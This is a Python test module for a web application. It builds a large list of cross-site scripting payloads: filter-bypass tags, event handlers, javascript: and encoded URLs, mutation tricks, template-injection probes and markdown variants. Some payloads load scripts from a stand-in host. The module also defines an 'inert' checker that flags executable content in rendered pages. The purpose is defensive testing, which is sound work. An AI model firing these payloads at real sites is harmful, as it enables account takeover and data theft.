"""Texts that try to become code: for every field that people fill in, on every page that shows it.

Each has `XSS` in a place where it would run. `inert` looks at a parsed page for anything that could.
"""

import re
from typing import Any

_CALLS = ("alert('XSS')", "alert(`XSS`)", "confirm('XSS')", "window.XSS=1", "fetch('//xss.example/XSS')")

_TAGS = [
    "<script>{c}</script>",
    "<SCRIPT>{c}</SCRIPT>",
    "<script\n>{c}</script\t>",
    "<script/x>{c}</script>",
    "<script src=//xss.example/XSS.js></script>",
    "<script src='data:text/javascript,{c}'></script>",
    "<script type=module>{c}</script>",
    "<scr<script>ipt>{c}</scr</script>ipt>",
    "<<script>{c}//<</script>",
    "</textarea><script>{c}</script>",
    "</title><script>{c}</script>",
    "</p></div></article><script>{c}</script>",
    '"><script>{c}</script>',
    "'><script>{c}</script>",
    "--><script>{c}</script>",
    "]]><script>{c}</script>",
    "*/</style><script>{c}</script>",
    "</noscript><script>{c}</script>",
    "</option></select><script>{c}</script>",
    "</svg><script>{c}</script>",
    "<img src=x onerror={c}>",
    "<img src=x onerror=\"{c}\">",
    "<IMG SRC=x OnErRoR={c}>",
    "<img/src=x/onerror={c}>",
    "<img src=x\nonerror={c}>",
    "<img src=x onerror\t=\t{c}>",
    "<img src='x' onerror='{c}' ",
    "<img src=javascript:{c}>",
    "<img srcset='x XSS' onload={c}>",
    "<image src=x onerror={c}>",
    "<svg onload={c}>",
    "<svg/onload={c}>",
    "<svg><script>{c}</script></svg>",
    "<svg><script href='data:,{c}'/></svg>",
    "<svg><animate onbegin={c} attributeName=x dur=1s>",
    "<svg><set attributeName=onmouseover to={c}>",
    "<svg><a xlink:href='javascript:{c}'><text y=20>XSS</text></a></svg>",
    "<svg><use href='data:image/svg+xml,XSS'/></svg>",
    "<svg><foreignObject><img src=x onerror={c}></foreignObject></svg>",
    "<svg><style><img src=x onerror={c}></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={c}>",
    "<math href='javascript:{c}'>XSS</math>",
    "<math><mi xlink:href='javascript:{c}'>XSS</mi></math>",
    "<body onload={c}>",
    "<body onpageshow={c}>",
    "<iframe src='javascript:{c}'></iframe>",
    "<iframe srcdoc='<script>{c}</script>'></iframe>",
    "<iframe onload={c}></iframe>",
    "<frameset onload={c}>",
    "<object data='javascript:{c}'></object>",
    "<object data='data:text/html,<script>{c}</script>'></object>",
    "<embed src='javascript:{c}'>",
    "<applet code=XSS onerror={c}>",
    "<a href='javascript:{c}'>XSS</a>",
    "<a href='JaVaScRiPt:{c}'>XSS</a>",
    "<a href=' javascript:{c}'>XSS</a>",
    "<a href='java\tscript:{c}'>XSS</a>",
    "<a href='java\nscript:{c}'>XSS</a>",
    "<a href='&#106;avascript:{c}'>XSS</a>",
    "<a href='&#x6A;avascript&colon;{c}'>XSS</a>",
    "<a href='vbscript:XSS'>XSS</a>",
    "<a href='data:text/html,<script>{c}</script>'>XSS</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4='>XSS</a>",
    "<a href=//xss.example onclick={c}>XSS</a>",
    "<a href='#' onmouseover={c}>XSS</a>",
    "<form action='javascript:{c}'><button>XSS</button></form>",
    "<form><button formaction='javascript:{c}'>XSS</button></form>",
    "<button onclick={c}>XSS</button>",
    "<input autofocus onfocus={c}>",
    "<input type=image src=x onerror={c}>",
    "<input onblur={c} autofocus><input autofocus>",
    "<select autofocus onfocus={c}><option>XSS</select>",
    "<textarea autofocus onfocus={c}>XSS</textarea>",
    "<keygen autofocus onfocus={c}>",
    "<details open ontoggle={c}>XSS</details>",
    "<marquee onstart={c}>XSS</marquee>",
    "<video src=x onerror={c}></video>",
    "<video><source onerror={c}></video>",
    "<video poster='javascript:{c}'></video>",
    "<audio src=x onerror={c}></audio>",
    "<audio autoplay oncanplay={c} src=XSS></audio>",
    "<track src=x onerror={c}>",
    "<div style='background:url(javascript:{c})'>XSS</div>",
    "<div style='width:expression({c})'>XSS</div>",
    "<div style='-moz-binding:url(//xss.example/XSS)'>XSS</div>",
    "<div style='position:fixed;inset:0;z-index:9999'>XSS</div>",
    "<style>@import '//xss.example/XSS.css';</style>",
    "<style>body{{background:url('javascript:{c}')}}</style>",
    "<link rel=stylesheet href=//xss.example/XSS.css>",
    "<link rel=import href='data:text/html,<script>{c}</script>'>",
    "<base href='javascript:{c}//'>",
    "<meta http-equiv=refresh content='0;url=javascript:{c}'>",
    "<meta http-equiv=refresh content='0;url=data:text/html,<script>{c}</script>'>",
    "<meta charset=utf-7>+ADw-script+AD4-{c}+ADw-/script+AD4-",
    "<template><script>{c}</script></template>",
    "<xml onreadystatechange={c}>XSS</xml>",
    "<custom-xss onpointerenter={c}>XSS</custom-xss>",
    "<p onpointerover={c}>XSS</p>",
    "<p onanimationstart={c} style='animation:XSS 1s'>XSS</p>",
    "<x onclick={c} tabindex=1 autofocus>XSS</x>",
    "<dialog open onclose={c}><form method=dialog>XSS</form></dialog>",
    "<portal src='javascript:{c}'></portal>",
    "<noembed><img src='</noembed><img src=x onerror={c}>'>",
    "<noscript><p title='</noscript><img src=x onerror={c}>'>",
    "<xmp><p title='</xmp><svg/onload={c}>'>",
    "<title><a title='</title><svg/onload={c}>'>",
    "<plaintext><img src=x onerror={c}>",
    "<!--><img src=x onerror={c}>-->",
    "<![CDATA[><script>{c}</script>]]>",
    "<?xml version='1.0'?><script>{c}</script>",
    "<% {c} %>",
]  # fmt: skip

_ATTRIBUTES = [
    '" onmouseover="{c}',
    "' onmouseover='{c}",
    '" autofocus onfocus="{c}" x="',
    "' autofocus onfocus='{c}' x='",
    '" style="position:fixed" onclick="{c}',
    "x onmouseover={c}",
    "` onmouseover={c}",
    '"/><svg/onload={c}>',
    "javascript:{c}",
    "javascript://%0a{c}",
    "data:text/html,<script>{c}</script>",
    "&lt;script&gt;{c}&lt;/script&gt;",
    "&#60;script&#62;{c}&#60;/script&#62;",
    "&amp;lt;script&amp;gt;{c}&amp;lt;/script&amp;gt;",
    "%3Cscript%3E{c}%3C/script%3E",
    "\\u003cscript\\u003e{c}\\u003c/script\\u003e",
    "\\x3cscript\\x3e{c}\\x3c/script\\x3e",
    "\uff1cscript\uff1e{c}\uff1c/script\uff1e",
    "\u2039script\u203a{c}\u2039/script\u203a",
    "+ADw-script+AD4-{c}+ADw-/script+AD4-",
    "';{c}//",
    '";{c}//',
    "\\';{c}//",
    "</script><script>{c}</script>",
    "${{{c}}}",
    "`-{c}-`",
]  # fmt: skip

_TEMPLATES = [
    "{{{{ 7*7 }}}} {{{{ config }}}} XSS",
    "{{{{ ''.__class__.__mro__ }}}} XSS",
    "{{% for x in ().__class__.__base__.__subclasses__() %}}XSS{{% endfor %}}",
    "{{{{ request.environ }}}} XSS",
    "{{# XSS #}}",
    "%(number)s %(title)s %s %d {{0}} {{text}} XSS",
    "#{{7*7}} <%= 7*7 %> ${{7*7}} XSS",
]  # fmt: skip

_MARKDOWN = [
    "[XSS](javascript:{c})",
    "[XSS](  javascript:{c})",
    "[XSS](JaVaScRiPt:{c})",
    "[XSS](data:text/html,<script>{c}</script>)",
    "[XSS](vbscript:{c})",
    "[XSS][1]\n\n[1]: javascript:{c}",
    "![XSS](x\"onerror=\"{c})",
    "![XSS](javascript:{c})",
    "<javascript:{c}>",
    "[<img src=x onerror={c}>](//xss.example)",
    "# <svg onload={c}> XSS",
    "```html\n<script>{c}</script>\n```",
    "> <script>{c}</script>",
    "| <script>{c}</script> |\n|---|\n| XSS |",
    "XSS <div\n onclick={c}>",
]  # fmt: skip


def _fill(pattern: str, place: int) -> str:
    return pattern.format(c=_CALLS[place % len(_CALLS)])


PAYLOADS: tuple[str, ...] = tuple(
    _fill(pattern, place) for place, pattern in enumerate((*_TAGS, *_ATTRIBUTES, *_TEMPLATES, *_MARKDOWN))
)

#: What reading direction, invisible letters and odd names may do to a page.
ODD_TEXTS: tuple[str, ...] = (
    "\u202etxet sdrawkcab\u202c",
    "\u2067\u2066\u2069 isolates that do not match",
    "zero\u200bwidth\u200djoiner\ufeff",
    "Zal" + "\u0335\u0321\u0489" * 200 + "go",
    "مرحبا Hallo שלום 123",
    "👩‍👩‍👧‍👦" * 20,
    "ﷺ" * 50,
    "a" * 300,
)

_RUNS = re.compile(r"^\s*(javascript|vbscript|data)\s*:", re.IGNORECASE)
_ADDRESSES = ("href", "src", "action", "formaction", "xlink:href", "srcdoc", "data", "poster", "srcset", "content")
#: Elements that pages of ours never contain, or only with a source of ours.
_NEVER = (
    "iframe", "object", "embed", "applet", "frameset", "base", "math", "video", "audio", "marquee", "style", "portal",
    "template", "foreignobject", "animate", "set", "keygen", "track", "plaintext", "xmp", "noembed", "dialog", "image",
)  # fmt: skip


def inert(html: Any) -> list[str]:
    """What in a parsed page (BeautifulSoup) could run or take the page over; empty when all is well."""
    found: list[str] = []
    for tag in html.find_all(True):
        name = tag.name.lower()
        if name in _NEVER:
            found.append(f"<{name}>")
        if name == "script" and not str(tag.get("src", "")).startswith("/static/"):
            found.append(f"script: {str(tag)[:80]}")
        ours = tag.get("rel") == ["canonical"] and "XSS" not in str(tag.get("href"))
        if name == "link" and not ours and not str(tag.get("href", "")).startswith("/static/"):
            found.append(f"link: {tag.get('href')}")
        if name == "meta" and tag.get("http-equiv"):
            found.append(f"meta: {tag}")
        if name == "img" and "XSS" in str(tag):
            found.append(f"image: {str(tag)[:80]}")
        for attribute, value in tag.attrs.items():
            text = " ".join(value) if isinstance(value, list) else str(value)
            if attribute.lower().startswith("on") or attribute.lower() == "style":
                found.append(f"{name} {attribute}={text[:60]}")
            if attribute.lower() in _ADDRESSES and _RUNS.match(re.sub(r"[\s\x00-\x1f]", "", text)):
                found.append(f"{name} {attribute}={text[:60]}")
            if attribute.lower() in ("href", "src", "action") and text.startswith(("//", "http://xss", "https://xss")):
                found.append(f"{name} {attribute}={text[:60]}")
    return found
